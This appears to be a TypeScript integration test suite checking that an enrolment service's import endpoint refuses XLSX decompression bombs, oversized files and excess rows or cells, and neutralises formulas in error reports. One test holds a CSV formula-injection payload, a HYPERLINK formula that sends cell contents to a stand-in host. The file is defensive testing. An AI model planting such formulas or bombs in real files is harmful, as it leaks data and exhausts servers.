import ExcelJS from 'exceljs';
import request from 'supertest';
import { baseUrlOf, waitFor } from '../../../test/support/test-environment';
import { makeNik } from '../src/domain/testing/enrolment.builders';
import { bearer, EnrolmentTestApp } from './support/enrolment-test-app';
import { generateWorkerList, toCsv } from './support/worker-list.generator';
import { xlsxBomb } from './support/xlsx-bomb';

const MAX_FILE_BYTES = 4 * 1024 * 1024;
const MAX_ROWS = 50;
const MAX_CELLS = 2_000;

/** Hostile uploads are refused before anything is expanded, naming the limit; reports run no formula. */
describe('enrolment imports: hostile files (real PostgreSQL and Kafka)', () => {
  const service = new EnrolmentTestApp('enrolment_hostile_uploads', {
    ACTIVATION_INTERVAL_MS: '0',
    IMPORT_MAX_FILE_BYTES: String(MAX_FILE_BYTES),
    IMPORT_MAX_ROWS: String(MAX_ROWS),
    IMPORT_MAX_CELLS: String(MAX_CELLS),
  });
  let url: string;
  let officer: string;

  beforeAll(async () => {
    await service.start();
    url = baseUrlOf(service.app);
    officer = bearer('enrolment-officer');
  });

  afterAll(() => service.stop());

  const upload = (content: Buffer | string, fileName: string) =>
    request(url)
      .post('/v1/imports')
      .set('Authorization', officer)
      .field('tenant', '76.04')
      .attach('file', Buffer.isBuffer(content) ? content : Buffer.from(content), fileName);

  const importJobs = async () =>
    (await service.query<{ jobs: number }>('SELECT count(*)::int AS jobs FROM import_job'))[0].jobs;

  it('refuses a 2 MB shared-strings bomb (800 MiB, ~49 million strings inflated) with 413 naming the limit', async () => {
    const bomb = xlsxBomb('shared-strings');
    expect(bomb.length).toBeGreaterThan(2_000_000);
    expect(bomb.length).toBeLessThan(MAX_FILE_BYTES);
    const jobsBefore = await importJobs();

    const response = await upload(bomb, 'daftar.xlsx').expect(413);

    expect(response.body).toEqual({
      statusCode: 413,
      error: 'IMPORT_TOO_MANY_SHARED_STRINGS',
      message: expect.stringContaining('1,000,000'),
      violations: [expect.objectContaining({ field: 'file', code: 'IMPORT_TOO_MANY_SHARED_STRINGS' })],
      details: { limit: 1_000_000 },
    });
    expect(await importJobs()).toBe(jobsBefore);
  });

  it('refuses a workbook that inflates beyond IMPORT_MAX_UNCOMPRESSED_BYTES (2 GiB of padding in the sheet)', async () => {
    const response = await upload(xlsxBomb('worksheet-padding'), 'daftar.xlsx').expect(413);
    expect(response.body).toMatchObject({
      error: 'IMPORT_FILE_TOO_LARGE_UNCOMPRESSED',
      details: { limit: 200 * 1024 * 1024 },
    });
  });

  it('refuses a file above IMPORT_MAX_FILE_BYTES with 413 naming the limit', async () => {
    const response = await upload(Buffer.alloc(MAX_FILE_BYTES + 1, 'a'), 'besar.csv').expect(413);
    expect(response.body).toMatchObject({
      error: 'FILE_TOO_LARGE',
      message: expect.stringContaining((4 * 1024 * 1024).toLocaleString('en-US')),
      details: { limit: MAX_FILE_BYTES },
    });
  });

  it('refuses a list with more rows or cells than allowed, as CSV and as XLSX, before queueing it', async () => {
    const jobsBefore = await importJobs();
    const tooLong = toCsv(generateWorkerList({ rows: MAX_ROWS + 1 }));
    expect((await upload(tooLong, 'panjang.csv').expect(413)).body).toMatchObject({
      error: 'IMPORT_TOO_MANY_ROWS',
      details: { limit: MAX_ROWS },
    });

    const list = generateWorkerList({ rows: 40 });
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Daftar');
    // 40 rows of 15 columns, plus 45 filled columns beyond them: 2,400 cells.
    const extra = Array.from({ length: 45 }, (_, index) => `catatan_${index}`);
    sheet.addRow([...list.header, ...extra]);
    for (const row of list.rows) sheet.addRow([...row, ...extra.map(() => 'x')]);
    const wide = Buffer.from(await book.xlsx.writeBuffer());
    expect((await upload(wide, 'lebar.xlsx').expect(413)).body).toMatchObject({
      error: 'IMPORT_TOO_MANY_CELLS',
      details: { limit: MAX_CELLS },
    });
    expect(await importJobs()).toBe(jobsBefore);
  });

  it('writes the error report with formulas neutralised: a hostile column header is text, not a live link', async () => {
    // Written as the report names columns (lower case, no spaces); spreadsheets read formulas in any case.
    const hostileColumn = '=hyperlink("https://evil.test/?"&b2,"fix_row")';
    const header = [
      'nik',
      'full_name',
      'birth_date',
      'sex',
      'address',
      'desa_code',
      'occupation',
      `"${hostileColumn.replace(/"/g, '""')}"`,
    ].join(',');
    const row = [
      makeNik({ birthDate: '1991-07-09', sex: 'F', district: '05', serial: '7301' }),
      'Hasnah Satu',
      '1991-07-09',
      'P',
      'Dusun Baru',
      '76.04.01.2002',
      'Nelayan',
      '@SUM(1+1)\u0001',
    ].join(',');
    const started = (await upload(`${header}\n${row}\n`, 'rumus.csv').expect(202)).body as { id: string };
    await waitFor(
      async () => {
        const job = await request(url).get(`/v1/imports/${started.id}`).set('Authorization', officer).expect(200);
        return job.body.status === 'completed' ? job.body : undefined;
      },
      { what: 'the import to finish' },
    );
    const report = await request(url)
      .get(`/v1/imports/${started.id}/errors.csv`)
      .set('Authorization', officer)
      .expect(200);
    expect(report.text.trimEnd().split('\n')).toContain(
      `2,"'${hostileColumn.replace(/"/g, '""')}",CONTROL_CHARACTERS,must not contain control characters`,
    );
    expect(report.text).not.toMatch(/(^|,)"?=/m);
  });
});
